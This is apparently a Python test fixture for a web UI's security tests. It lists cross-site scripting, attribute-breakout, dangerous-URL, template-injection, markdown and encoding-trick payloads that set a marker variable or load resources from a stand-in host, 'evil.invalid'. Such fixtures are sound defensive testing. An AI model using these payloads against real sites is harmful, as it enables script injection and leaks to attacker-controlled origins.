"""Attack payloads that people or models could put into a page.

Each one, if a page lets it act, sets `window.__xss`, opens a dialog, asks another origin for
something, or leaves markup that `tests/server/ui/html_judge.py` finds.
"""

from __future__ import annotations

DO = "window.__xss=1"
EVIL = "//evil.invalid/"

MARKUP = (
    f"<script>{DO}</script>",
    f"<ScRiPt >{DO}</sCrIpT >",
    f"<scr<script>ipt>{DO}</scr</script>ipt>",
    f'<script src="{EVIL}x.js"></script>',
    f'"><script>{DO}</script>',
    f"'><script>{DO}</script>",
    f"--><script>{DO}</script><!--",
    f"]]><script>{DO}</script>",
    f"</textarea><script>{DO}</script>",
    f"</title><script>{DO}</script>",
    f"</style><script>{DO}</script>",
    f"</script><script>{DO}</script>",
    f"</noscript><img src=x onerror={DO}>",
    f"</template></select></option><svg onload={DO}>",
    f"</pre></code></details><img src=x onerror={DO}>",
    f"<img src=x onerror={DO}>",
    f"<img src={EVIL}pixel.png>",
    f'<img srcset="{EVIL}a.png 1x">',
    f"<svg onload={DO}>",
    f"<svg><script>{DO}</script></svg>",
    f'<svg><a xlink:href="javascript:{DO}"><text y="20">x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg onload={DO}>#x"/></svg>',
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={DO}></style>",
    f"<body onload={DO}>",
    f'<iframe src="javascript:{DO}"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    f'<object data="javascript:{DO}"></object>',
    f'<embed src="{EVIL}x.swf">',
    f"<details open ontoggle={DO}>x</details>",
    f"<input autofocus onfocus={DO}>",
    f"<video><source onerror={DO}></video>",
    f'<a href="javascript:{DO}">click</a>',
    f'<form action="{EVIL}"><button>Approve</button></form>',
    f'<button formaction="javascript:{DO}">Approve</button>',
    f'<base href="{EVIL}">',
    f'<link rel="stylesheet" href="{EVIL}x.css">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f"<style>@import '{EVIL}x.css';</style>",
    f'<div style="background:url({EVIL}bg.png)">x</div>',
    f'<div hx-get="{EVIL}" hx-trigger="load" hx-swap="outerHTML">x</div>',
    f"<div hx-on:htmx:load=\"{DO}\" data-hx-on--load='{DO}'>x</div>",
    f"<marquee onstart={DO}>x</marquee>",
    f"<x contenteditable onblur={DO} tabindex=1 autofocus>",
)
"""Markup, and what breaks out of the element that a text is put in."""

ATTRIBUTES = (
    f'" onmouseover="{DO}" autofocus onfocus="{DO}" x="',
    f"' onmouseover='{DO}' autofocus onfocus='{DO}' x='",
    f"` onerror={DO} ",
    f"x onfocus={DO} autofocus ",
    f'x" style="animation-name:x" onanimationstart="{DO}',
    f'1" /><script>{DO}</script><x a="',
)
"""What breaks out of an attribute."""

ADDRESSES = (
    f"javascript:{DO}",
    f"JaVaScRiPt:{DO}",
    f"java\tscript:{DO}",
    f" javascript:{DO}//https://example.com",
    f"data:text/html,<script>{DO}</script>",
    f"vbscript:{DO}",
    f"{EVIL}x",
    "https:evil.invalid",
    "\\\\evil.invalid\\x",
)
"""What is dangerous where an address is expected."""

TEMPLATES = (
    "{{7*7}}{{ ''.__class__ }}",
    "{% raw %}{{ csrf() }}{% endraw %}{% include 'base.html' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{0.__class__} %(x)s %s %n",
)
"""What a template engine or a formatter may evaluate."""

MARKDOWN = (
    f"[click](javascript:{DO})",
    f"[click](<javascript:{DO}>)",
    f'[click](https://example.com "\\" onmouseover={DO} x=\\"")',
    f"![pixel](https:{EVIL}pixel.png)",
    f"![x](x){{onerror={DO}}} ![x](data:image/svg+xml,<svg onload={DO}>)",
    f"<https:{EVIL}> https:{EVIL}?<script>{DO}</script>",
    f"```html\n</code></pre><script>{DO}</script>\n```",
    f"[ref]: javascript:{DO}\n[ref] &#x6A;avascript:{DO} &lt;script&gt;",
)

TRICKS = (
    f"\uff1cscript\uff1e{DO}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{DO}+ADw-/script+AD4-",
    f"\u202e>tpircs/<{DO}>tpircs<\u202c \u2066x\u2069",
    f"approve\u200b\u200d\ufeff\u00ad <script>{DO}</script>",
    f"Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d<svg/onload={DO}>",
    f"a\x01\x08\x0b\x0c\x1b[31m\x7f\x85<script>{DO}</script>",
    f"line\r\nSet-Cookie: evil=1\r\n\r\n<script>{DO}</script>\u2028\u2029",
    "data: evil\n\nevent: message\ndata: <script>window.__xss=1</script>\n\n",
    f"{'W' * 150}<script>{DO}</script>",
    "../../ui?next=//evil.invalid#<svg>",
    f"%3Cscript%3E{DO}%3C/script%3E%00%0d%0a",
)
"""Characters that look like others, are invisible, or end a line, a header or an event."""

PAYLOADS = (*MARKUP, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *MARKDOWN, *TRICKS)

NUL = f"a\x00b<script>{DO}</script>"
"""Stored in values; names refuse it."""
LONG = "".join(f"<b>{n}</b> " for n in range(5_000)) + f"<script>{DO}</script>"
"""Long enough for a page to fold or truncate it."""


def as_name(payload: str) -> str:
    """A payload as a name, which has at most 256 bytes."""
    return payload.encode()[:240].decode(errors="ignore")
